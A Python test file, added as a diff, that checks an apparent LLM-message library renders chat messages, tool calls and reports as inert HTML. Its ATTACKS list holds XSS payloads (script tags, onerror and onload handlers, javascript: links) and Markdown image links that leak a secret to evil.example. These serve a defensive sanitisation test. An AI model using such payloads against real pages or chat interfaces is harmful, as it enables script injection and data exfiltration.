@@ -1,0 +1,138 @@
+"""Messages as HTML: everything is there, and nothing of it runs."""
+
+import sys
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hocket import AIMessage, HumanMessage, ToolMessage
+from hocket.batch import BatchReport
+from hocket.callbacks import UsageMetadataCallbackHandler
+from hocket.messages import AIMessageChunk, SystemMessage
+from hocket.messages.html import LONGEST, MOST, load_markdown, write_message, write_messages
+
+HARMLESS = {
+    *("div", "details", "summary", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "p", "br", "hr", "em"),
+    *("strong", "ul", "ol", "li", "blockquote", "a", "h1", "h2", "h3", "h4", "h5", "h6"),
+}
+ATTRIBUTES = {"class", "style", "href", "title", "start"}
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![leak](https://evil.example/?secret)",
+    "![leak][1]\n\n[1]: https://evil.example/",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt&#58;alert(1))",
+    "<javascript:alert(1)>",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    '[click](https://x.example "title\\" onclick=alert(1) \\"")',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "<!-- --><style>*{display:none}</style>",
+    "| a |\n|---|\n| <svg onload=alert(1)> |",
+    "\ud800 half a letter",
+]
+
+
+class Checked(HTMLParser):
+    """Refuses elements and attributes that could do something."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.texts: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in HARMLESS, tag
+        for name, value in attrs:
+            assert name in ATTRIBUTES, name
+            if name == "href":
+                assert (value or "").split(":")[0].lower() not in ("javascript", "data", "vbscript", "file"), value
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+
+def read(html: str) -> str:
+    """Return the text of HTML that is harmless, and can be sent."""
+    html.encode()
+    parser = Checked()
+    parser.feed(html)
+    parser.close()
+    return "".join(parser.texts)
+
+
+@pytest.fixture(params=["rendered", "as it was written"])
+def markdown(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Any:
+    """With and without what renders Markdown."""
+    if request.param != "rendered":
+        monkeypatch.setitem(sys.modules, "markdown_it", None)
+    load_markdown.cache_clear()
+    yield request.param
+    load_markdown.cache_clear()
+
+
+@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
+def test_nothing_runs(text: str, markdown: str):
+    """Whoever says it, and wherever."""
+    call: Any = {"name": text, "args": {text: text}, "id": text}
+    facts: Any = {"model_name": text}
+    for message in (
+        AIMessage(text, tool_calls=[call], response_metadata=facts),
+        AIMessage([{"type": "reasoning", "reasoning": text}, {"type": "text", "text": text}, {"type": text}]),
+        AIMessage(
+            "", invalid_tool_calls=[{"type": "invalid_tool_call", "name": text, "args": text, "id": "", "error": text}]
+        ),
+        HumanMessage(text, name=text),
+        ToolMessage(text, tool_call_id="1", name=text),
+        SystemMessage(text),
+    ):
+        read(write_message(message))
+    counted = UsageMetadataCallbackHandler()
+    counted.usage_metadata[text] = {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2}
+    read(counted._repr_html_())
+    read(BatchReport(stopped=ValueError(text))._repr_html_())
+
+
+@given(st.text())
+def test_nothing_of_any_text_runs(text: str):
+    """Markdown included."""
+    read(write_message(AIMessage(text)))
+
+
+def test_what_is_shown_of_a_message(markdown: str):
+    """Who speaks, the words, reasoning to unfold, calls, and what it cost."""
+    message = AIMessage(
+        [{"type": "reasoning", "reasoning": "Hm."}, {"type": "text", "text": "It is **so**."}, {"type": "image"}],
+        tool_calls=[{"name": "look", "args": {"at": "it"}, "id": "1"}],
+        usage_metadata={"input_tokens": 3, "output_tokens": 4, "total_tokens": 7},
+        response_metadata={"model_name": "small"},
+    )
+    html = message._repr_html_()
+    assert ("<strong>so</strong>" in html) is (markdown == "rendered")
+    words = read(html)
+    for word in ("ai · small · 3 + 4 tokens", "Hm.", "so", "[image]", "look({'at': 'it'})"):
+        assert word in words
+    assert "Hello" in read(AIMessageChunk("Hello")._repr_html_()) and "aimessagechunk" not in html
+
+
+def test_only_answers_are_rendered():
+    """A user's asterisks are his own."""
+    assert "**so**" in write_message(HumanMessage("**so**"))
+
+
+def test_what_is_long_is_cut():
+    """And says so."""
+    assert f"({5} more characters)" in read(write_message(HumanMessage("x" * (LONGEST + 5))))
+    html = write_messages([HumanMessage(f"number {index};") for index in range(MOST + 3)])
+    assert "… 3 messages before" in html and "number 2;" not in html and "number 3;" in html
+
+
+def test_a_report_shows_itself():
+    """A plus behind a cost: some tries have no price."""
+    report = BatchReport(ok=7, failed=2)
+    report.add_usage({"input_tokens": 1000, "output_tokens": 200, "total_tokens": 1200}, None)
+    words = read(report._repr_html_())
+    assert "1,200" in words and "$0.0000+" in words
